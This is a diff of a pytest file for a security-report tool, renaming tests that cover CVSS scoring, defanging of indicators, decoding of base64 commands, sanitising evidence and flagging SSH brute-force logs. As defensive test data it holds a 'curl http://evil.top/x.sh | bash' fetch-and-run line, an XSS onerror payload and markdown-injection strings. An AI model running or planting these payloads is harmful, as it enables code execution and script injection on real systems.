@@ -32,26 +32,26 @@ def links_images_and_html(markdown: str) -> list[str]:
     return [child.type for token in tokens for child in [token, *(token.children or [])] if child.type in kinds]
 
 
-def test_one_score_is_said_with_its_severity_and_what_lowers_it_most():
+def test_one_score_has_its_severity_and_largest_reduction():
     found = of(cvss.inspect("CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"))
     assert cvss_section.verdict(found).startswith("**9.8 critical** (CVSS 3.1, base score). Largest reduction:")
     assert "| `AV:N` | Attack vector | from anywhere on the network |" in cvss_section.body(found)
 
 
-def test_several_scores_name_the_highest_and_count_the_broken():
+def test_several_scores_name_the_highest_and_count_invalid_vectors():
     text = "AV:L/AC:H/Au:M/C:P/I:N/A:N CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H CVSS:3.1/AV:N/AC:L"
     verdict = cvss_section.verdict(of(cvss.inspect(text)))
     assert verdict.startswith("**2 CVSS vectors; the highest is 9.8 critical:**")
     assert verdict.endswith("1 vector is not valid.")
 
 
-def test_a_broken_vector_says_the_metric_and_the_values_allowed():
+def test_an_invalid_vector_names_the_metric_and_the_allowed_values():
     found = of(cvss.inspect("CVSS:3.1/AV:N/AC:Q/PR:N/UI:N/S:U/C:H/I:H/A:H"))
     assert "If corrected, it scores between 8.1 and 9.8" in cvss_section.verdict(found)
     assert "`AC`: L, H" in cvss_section.body(found)
 
 
-def test_indicators_are_counted_by_type_and_shown_harmless():
+def test_indicators_are_counted_by_type_and_defanged():
     found = of(indicators.inspect("http://evil.top/a and 45.9.148.3:8080, 10.0.0.1", source="r.txt"))
     assert indicators_section.verdict(found).startswith("**4 indicators:** 2 IPv4 addresses, 1 URL, 1 domain.")
     section = indicators_section.SECTION.body(found)
@@ -61,7 +61,7 @@ def test_indicators_are_counted_by_type_and_shown_harmless():
     assert "port 8080" in section
 
 
-def test_a_decoded_command_is_shown_whole_and_named():
+def test_a_decoded_command_is_shown_in_full_and_named():
     plain = "curl http://evil.top/x.sh | bash"
     found = of(decode.inspect(base64.b64encode(plain.encode()).decode(), source="prompt"))
     verdict = decode_section.verdict(found)
@@ -76,7 +76,7 @@ HOSTILE = "`![x](http://evil.top/p.png) <img src=x onerror=alert(1)> ``` | [a](j
 @pytest.mark.parametrize(
     "section", [cvss_section, indicators_section, decode_section], ids=["cvss", "indicators", "decode"]
 )
-def test_evidence_can_make_no_link_no_image_and_no_html(section):
+def test_evidence_cannot_create_links_images_or_html(section):
     vector = "CVSS:3.1/AV:N/AC:<img>/PR:[x](http://evil.top)/UI:N/S:U/C:H/I:H/A:`"
     wrapped = base64.b64encode(f"whoami the user {HOSTILE}".encode()).decode()
     items = {
@@ -89,7 +89,7 @@ def test_evidence_can_make_no_link_no_image_and_no_html(section):
     assert links_images_and_html(section.verdict(found) + "\n\n" + section.SECTION.body(found)) == []
 
 
-def test_an_account_that_many_sources_force_together_is_in_the_verdict():
+def test_an_account_attacked_by_many_sources_is_in_the_verdict():
     line = "Nov 20 0{hour}:{minute:02}:45 web1 sshd[{pid}]: Failed password for root from 192.0.2.{n} port 22 ssh2"
     lines = [line.format(hour=n // 4, minute=n % 4 * 15, pid=n + 100, n=n) for n in range(30)]
     said = section_of(skill_of_kind("auth_account")).verdict(of(auth_log.inspect(lines, source="auth.log")))
